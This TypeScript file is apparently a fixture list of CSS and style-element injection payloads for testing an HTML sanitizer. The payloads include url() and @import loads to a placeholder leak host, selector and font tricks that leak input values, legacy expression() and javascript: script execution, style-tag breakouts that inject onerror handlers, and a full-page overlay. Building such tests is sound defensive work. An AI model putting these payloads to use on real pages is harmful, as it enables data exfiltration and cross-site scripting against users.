/** Ways by which a style would load something, tell what stands on the page, or run a script in browsers of old. */
import { LEAK, OWN, type Trick } from './markup.ts'

const sheet = (css: string): string => `<style>${css}</style><p class=x title=secret>x</p><input value=secret>`
const own = (css: string): string => `<p style="${css}">x</p>`

const WRITTEN: Readonly<Record<string, string>> = {
  import: sheet(`@import url(${LEAK}import.css);`),
  'import by a string': sheet(`@import '${LEAK}import.css' screen;`),
  'import with an escape': sheet(`@\\69mport url(${LEAK}import.css);`),
  'import after a comment': sheet(`/**/@import/**/url(${LEAK}import.css);`),
  'import into a layer': sheet(`@import url(${LEAK}import.css) layer(a) supports(display:grid);`),
  background: sheet(`p{background:url(${LEAK}bg.png)}`),
  'background of an attribute': own(`background:url(${LEAK}bg.png)`),
  'background, quotes in entities': own(`background-image:url(&quot;${LEAK}bg.png&quot;)`),
  'background with an escape': own(`background:\\75\\72\\6c(${LEAK}bg.png)`),
  'background with a long escape': own(`background:u\\000072l(${LEAK}bg.png)`),
  'background, name broken by a comment': own(`background:u/**/rl(${LEAK}bg.png)`),
  'background, odd case': own(`BACKGROUND:URL(${LEAK}bg.png)`),
  'background, line break in an escape': own(`background:ur\\\nl(${LEAK}bg.png)`),
  'background, protocol left out': own('background:url(//leak.example/bg.png)'),
  'background of svg that asks': sheet(
    `p{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${LEAK}svg.png'/></svg>")}`,
  ),
  'choice of pictures': sheet(`p{background:image-set('${LEAK}set.png' 1x)}`),
  'choice of pictures, by its old name': sheet(`p{background:-webkit-image-set(url(${LEAK}set.png) 1x)}`),
  'picture crossfade': sheet(`p{background:-webkit-cross-fade(url(${LEAK}a.png),url(${LEAK}b.png),50%)}`),
  'picture function': sheet(`p{background:image('${LEAK}image.png')}`),
  'picture by a variable': sheet(`:root{--u:url(${LEAK}var.png)}p{background:var(--u)}`),
  'picture by a registered variable': sheet(
    `@property --u{syntax:'<image>';inherits:false;initial-value:url(${LEAK}prop.png)}p{background:var(--u)}`,
  ),
  'picture of an attribute': sheet('p{background:url(attr(title))}p{background:image-set(attr(title))}'),
  'list mark': sheet(`p{display:list-item;list-style:url(${LEAK}list.png)}`),
  'border picture': sheet(`p{border:9px solid;border-image:url(${LEAK}border.png) 9}`),
  cursor: sheet(`*{cursor:url(${LEAK}cursor.cur),auto}`),
  content: sheet(`p::after{content:url(${LEAK}content.png)}`),
  mask: sheet(`p{mask:url(${LEAK}mask.svg#m);-webkit-mask-image:url(${LEAK}mask.png)}`),
  filter: sheet(`p{filter:url(${LEAK}filter.svg#f);backdrop-filter:url(${LEAK}filter.svg#g)}`),
  'clip path': sheet(`p{clip-path:url(${LEAK}clip.svg#c)}`),
  shape: sheet(`p{float:left;shape-outside:url(${LEAK}shape.png)}`),
  'offset path': sheet(`p{offset-path:url(${LEAK}path.svg#p)}`),
  'fill and markers': sheet(`p{fill:url(${LEAK}fill.svg#f);marker:url(${LEAK}marker.svg#m);stroke:url(${LEAK}stroke.svg#s)}`),
  'font from elsewhere': sheet(`@font-face{font-family:f;src:url(${LEAK}font.woff2)}p{font-family:f}`),
  'font that tells a letter': sheet(`@font-face{font-family:f;src:url(${LEAK}x);unicode-range:U+78}p{font-family:f}`),
  'font values and palettes': sheet(
    `@font-feature-values f{@swash{a:1}}@font-palette-values --p{font-family:f;override-colors:0 red}@font-face{font-family:f;src:image-set(url(${LEAK}f.woff2))}`,
  ),
  'selector that tells a value': sheet(`input[value^=s]{background:url(${LEAK}s)}input[value$=t]{background:url(${LEAK}t)}`),
  'selector that tells a state': sheet(
    `:root:has([title*=sec]){background:url(${LEAK}has)}a:visited{background:url(${LEAK}visited)}:target{background:url(${LEAK}target)}`,
  ),
  'selector nested': sheet(`p{&.x{background:url(${LEAK}nested)}}`),
  'rules by size': sheet(
    `@media(min-width:1px){p{background:url(${LEAK}media)}}@container (min-width:1px){p{background:url(${LEAK}container)}}@supports(color:red){p{background:url(${LEAK}supports)}}`,
  ),
  'rules by layer and scope': sheet(`@layer a{p{background:url(${LEAK}layer)}}@scope(body){p{background:url(${LEAK}scope)}}`),
  'rules at the start': sheet(
    `@starting-style{p{background:url(${LEAK}start)}}@keyframes k{from{background:url(${LEAK}key)}}p{animation:k 1s}`,
  ),
  'rules of a document': sheet(`@document url(${LEAK}){p{color:red}}@namespace x url(${LEAK}ns);@charset "x";`),
  'rules of a page': sheet(`@page{background:url(${LEAK}page);@top-left{content:url(${LEAK}margin.png)}}`),
  'scrollbar that tells a width': sheet(
    `body::-webkit-scrollbar{background:url(${LEAK}scroll)}::selection{background:url(${LEAK}select)}p::first-letter{background:url(${LEAK}letter)}`,
  ),
  'expression of old': own(`width:expression(${OWN})`),
  'behaviour of old': own(`behavior:url(${LEAK}x.htc)`),
  'binding of old': own(`-moz-binding:url(${LEAK}x.xml#x)`),
  'script for an address': own(`background:url(javascript:${OWN});list-style:url('javascript:${OWN}')`),
  'filter of old': own(`filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='${LEAK}x.png')`),
  'sheet that closes itself': `<style>p{}</style><img src=x: onerror="${OWN}"><style></style>`,
  'sheet that closes itself in a string': `<style>p{content:"</style><img src=x: onerror=${OWN}>"}</style>`,
  'sheet never closed': `<style>p{background:url(${LEAK}open`,
  'sheet with markup in a comment': `<style>/* </style><script>${OWN}</script> */</style>`,
  'attribute that leaves its quotes': own(`color:red;&quot; onpointerover=&quot;${OWN}`),
  'string never closed': own(`content:'; background:url(${LEAK}string)`),
  'over the whole page': own('position:fixed;inset:-9999px;z-index:2147483647;background:white'),
  'print and speech': sheet(`@media print{p{background:url(${LEAK}print)}}@media speech{p{cue:url(${LEAK}cue.wav)}}`),
  'style by another name': `<p STYLE="background:url(${LEAK}upper)">x</p><p style='background:url(${LEAK}single)'>x</p><p style=background:url(${LEAK}none)>x</p>`,
}

export const STYLE_TRICKS: readonly Trick[] = Object.entries(WRITTEN).map(([name, html]) => ({ name: `style: ${name}`, html }))
